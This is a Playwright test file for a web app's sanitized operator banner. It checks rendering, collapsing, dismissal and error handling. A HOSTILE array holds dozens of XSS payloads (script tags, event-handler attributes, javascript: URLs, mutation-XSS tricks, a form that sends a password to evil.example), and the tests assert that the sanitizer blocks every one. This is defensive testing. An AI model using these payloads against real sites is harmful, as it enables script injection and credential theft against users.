import { expectAccessible } from '../accessibility/axe.ts'
import { expect, type Page, test } from '../stack.ts'
import { t } from '../texts.ts'
import { button, expectDashboard, expectFits } from './views.ts'

const banner = (page: Page) => page.getByRole('region', { name: t('banner.label') })

test('A user sees a message from the operator after sign-in, with its links and lists', async ({
  page,
  mock,
  signInAs,
}) => {
  await mock.banner(
    '<p>Works on <b>Friday</b>. <a href="https://status.example/">More</a></p><ul><li>Gent</li></ul>',
  )
  await signInAs('driver')
  await expect(banner(page)).toContainText('Works on Friday.')
  const link = banner(page).getByRole('link', { name: 'More' })
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer')
  await expect(link).toHaveAttribute('target', '_blank')
  await expect(banner(page).getByRole('listitem')).toHaveText('Gent')
  await expectAccessible(page)
})

test('Headings, https images and wide tables of a message are shown without widening the page', async ({
  page,
  mock,
  signInAs,
}) => {
  const picture =
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
  await page.route('https://status.example/**', (route) =>
    route.fulfill({ contentType: 'image/png', body: Buffer.from(picture, 'base64') }),
  )
  const cells = Array.from({ length: 20 }, (_, day) => `<td>${day + 1} November</td>`).join('')
  await mock.banner(
    `<h2>Works</h2><p><img src="https://status.example/a.png" alt="Plan" width="3000" height="300"></p>
    <table><tbody><tr><th scope="row">Gent</th>${cells}</tr></tbody></table>`,
  )
  await signInAs('driver')
  await expect(banner(page).getByRole('heading', { level: 2, name: 'Works' })).toBeVisible()
  const image = banner(page).getByRole('img', { name: 'Plan' })
  await expect.poll(() => image.evaluate((one) => (one as HTMLImageElement).naturalWidth)).toBeGreaterThan(0)
  for (const [width, colorScheme] of [
    [1280, 'light'],
    [390, 'dark'],
  ] as const) {
    await page.setViewportSize({ width, height: 844 })
    await page.emulateMedia({ colorScheme })
    await expectFits(page)
    const more = button(page, t('banner.more'))
    if (await more.isVisible()) await more.click()
    const table = banner(page).getByRole('table')
    await expect(table.getByRole('rowheader', { name: 'Gent' })).toBeVisible()
    const scroller = banner(page).locator('.message-table')
    expect(await scroller.evaluate((one) => one.scrollWidth > one.clientWidth)).toBe(true)
    expect((await image.boundingBox())?.width).toBeLessThanOrEqual(width)
    await expectAccessible(page)
  }
})

test('A long message is shortened, and expands on demand or when it receives keyboard focus', async ({
  page,
  mock,
  signInAs,
}) => {
  await page.setViewportSize({ width: 390, height: 844 })
  const line = '<p>Chargers are updated tonight, one site after the other.</p>'
  await mock.banner(`${line.repeat(9)}<a href="https://status.example/">More</a>`)
  await signInAs('driver')
  const height = async () => (await banner(page).boundingBox())?.height ?? 0
  await expect(button(page, t('banner.more'))).toHaveAttribute('aria-expanded', 'false')
  expect(await height()).toBeLessThan(844 / 6)
  await banner(page).getByRole('link', { name: 'More' }).focus()
  await expect(button(page, t('banner.less'))).toHaveAttribute('aria-expanded', 'true')
  await expect.poll(height).toBeGreaterThan(844 / 4)
  await expectAccessible(page)
  await button(page, t('banner.less')).click()
  await expect.poll(height).toBeLessThan(844 / 6)
  await button(page, t('banner.more')).click()
  await expect.poll(height).toBeGreaterThan(844 / 4)
})

test('A dismissed message stays hidden after a reload; a new message is shown', async ({
  page,
  mock,
  signInAs,
}) => {
  await mock.banner('Works on Friday')
  await signInAs('driver')
  await expect(banner(page)).toContainText('Works on Friday')
  await button(page, t('banner.dismiss')).click()
  await expect(banner(page)).toHaveCount(0)
  const read = page.waitForResponse(/\/banner\/BCO\/Banner$/)
  await page.reload()
  await read
  await expectDashboard(page)
  await expect(banner(page)).toHaveCount(0)
  await mock.banner('Works on Saturday')
  await page.reload()
  await expect(banner(page)).toContainText('Works on Saturday')
})

test('An empty message shows nothing, and a failed read is only logged (S7)', async ({
  page,
  mock,
  signInAs,
  errors,
}) => {
  errors.allow(/Failed to load resource/)
  const warnings: string[] = []
  page.on('console', (message) => message.type() === 'warning' && warnings.push(message.text()))
  const first = page.waitForResponse(/\/banner\/BCO\/Banner$/)
  await signInAs('driver')
  await first
  await expectDashboard(page)
  await expect(banner(page)).toHaveCount(0)
  expect(warnings).toEqual([])

  await mock.fault('getBanner', { kind: 'status', status: 500 })
  await page.reload()
  await expect.poll(() => warnings.join()).toContain('The banner could not be read')
  await expectDashboard(page)
  await expect(banner(page)).toHaveCount(0)
  await expect(page.getByRole('region', { name: t('notifications.label') })).toHaveCount(0)
})

/** Must have no effect: each would set `window.hacked`, request something from `evil.example`, or change the page. */
const HOSTILE: readonly string[] = [
  '<script>window.hacked = 1</script>',
  '<scr<script>ipt>window.hacked = 1</scr</script>ipt>',
  '<img src=x onerror="window.hacked = 1">',
  '<img srcset="https://evil.example/a.png 1x" src="https://good.example/b.png" onload="window.hacked = 1" style="position:fixed">',
  '<img src="http://evil.example/a.png"><img src="//evil.example/b.png"><img src="data:image/svg+xml,<svg/>">',
  '<table background="http://evil.example/a.png" style="position:fixed;inset:0" onclick="window.hacked = 1"><tr><td background="https://evil.example/b.png">cell</td></tr></table>',
  '<h1 id="root" onclick="window.hacked = 1">title</h1>',
  '<svg onload="window.hacked = 1"></svg>',
  '<svg><script>window.hacked = 1</script></svg>',
  '<svg><animate onbegin="window.hacked = 1" attributeName="x" dur="1s"></animate></svg>',
  '<svg><a xlink:href="javascript:window.hacked = 1"><text>click</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<math href="javascript:window.hacked = 1">click</math>',
  '<a href="javascript:window.hacked = 1">click</a>',
  '<a href=" java\tscript:window.hacked = 1">click</a>',
  '<a href="&#106;&#97;vascript&colon;window.hacked = 1">click</a>',
  '<a href="JaVaScRiPt:window.hacked = 1">click</a>',
  '<a href="data:text/html,<script>window.hacked = 1</script>">click</a>',
  '<a href="vbscript:window.hacked = 1">click</a>',
  '<a href="http://evil.example/">click</a>',
  '<a href="//evil.example/">click</a>',
  '<a href="https://good.example/" onclick="window.hacked = 1" style="position:fixed" class="x" id="root">click</a>',
  '<b onmouseover="window.hacked = 1" style="position:fixed;inset:0">cover</b>',
  '<style>body { display: none } @import "https://evil.example/a.css";</style>text',
  '<link rel="stylesheet" href="https://evil.example/a.css">text',
  '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">text',
  '<base href="https://evil.example/">text',
  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
  '<form id="body"><input name="attributes"><input name="cookie"></form>',
  '<a id="config" href="https://good.example/">one</a><a id="config" name="api" href="https://good.example/">two</a>',
  '<template><script>window.hacked = 1</script></template>text',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>text',
  '<textarea><img title="</textarea><img src=x onerror=window.hacked=1>"></textarea>',
  '<video src="https://evil.example/v.mp4" onerror="window.hacked = 1"></video>',
  '<audio><source src="https://evil.example/a.mp3" onerror="window.hacked = 1"></audio>',
  '<details open ontoggle="window.hacked = 1">text</details>',
  '<body onload="window.hacked = 1">text</body>',
  '<marquee onstart="window.hacked = 1">text</marquee>',
  '<b><i><u>never closed <p><ul><li>nested',
  '<!--><img src=x onerror=window.hacked=1>-->text',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>',
  '&lt;script&gt;window.hacked = 1&lt;/script&gt;',
]

const ALLOWED = (
  'a b strong i em u s small sub sup mark code p br ul ol li h2 h3 h4 h5 h6 div span hr blockquote pre dl dt dd ' +
  'img table caption thead tbody tfoot tr th td'
).split(' ')

test.describe('Without a Content-Security-Policy', () => {
  test.use({ bypassCSP: true })

  test('a hostile message runs nothing, loads nothing and keeps only allowed markup', async ({
    page,
    mock,
    signInAs,
  }) => {
    test.setTimeout(180_000)
    const strange: string[] = []
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) strange.push(request.url())
    })
    page.on('popup', (popup) => strange.push(popup.url()))
    await page.route('https://good.example/**', (route) =>
      route.fulfill({ contentType: 'image/png', body: '' }),
    )
    await mock.banner('Begin')
    await signInAs('driver')
    await expect(banner(page)).toContainText('Begin')
    for (const [index, payload] of HOSTILE.entries()) {
      // The message comes first, because some payloads swallow any content after them.
      await mock.banner(`<p>message ${index}.</p>${payload}`)
      await page.reload()
      await expect(banner(page), payload).toContainText(`message ${index}.`)
      const found = await banner(page)
        .locator('.message')
        .evaluate((message) => ({
          tags: [...message.querySelectorAll('*')].map((element) => element.localName),
          attributes: [...message.querySelectorAll('*')].flatMap((element) =>
            [...element.attributes].map(({ name, value }) => `${element.localName} ${name}=${value}`),
          ),
          isHacked: 'hacked' in window,
        }))
      expect(found.isHacked, payload).toBe(false)
      expect(
        found.tags.filter((tag) => !ALLOWED.includes(tag)),
        payload,
      ).toEqual([])
      const good =
        /^(a (href=(https:\/\/|mailto:)|target=_blank$|rel=noopener noreferrer$)|img (src=https:\/\/|alt=$|referrerpolicy=no-referrer$)|div (class=message-table|tabindex=0)$)/
      expect(
        found.attributes.filter((attribute) => !good.test(attribute)),
        payload,
      ).toEqual([])
    }
    expect(strange).toEqual([])
  })

  test('a message that is empty after sanitizing shows nothing', async ({ page, mock, signInAs }) => {
    await mock.banner('<img src=x onerror="window.hacked = 1"><script>1</script>')
    const read = page.waitForResponse(/\/banner\/BCO\/Banner$/)
    const cleaner = page.waitForResponse(/\/assets\/cleanHtml-/)
    await signInAs('driver')
    await read
    await cleaner
    await expectDashboard(page)
    await expect(banner(page)).toHaveCount(0)
  })
})
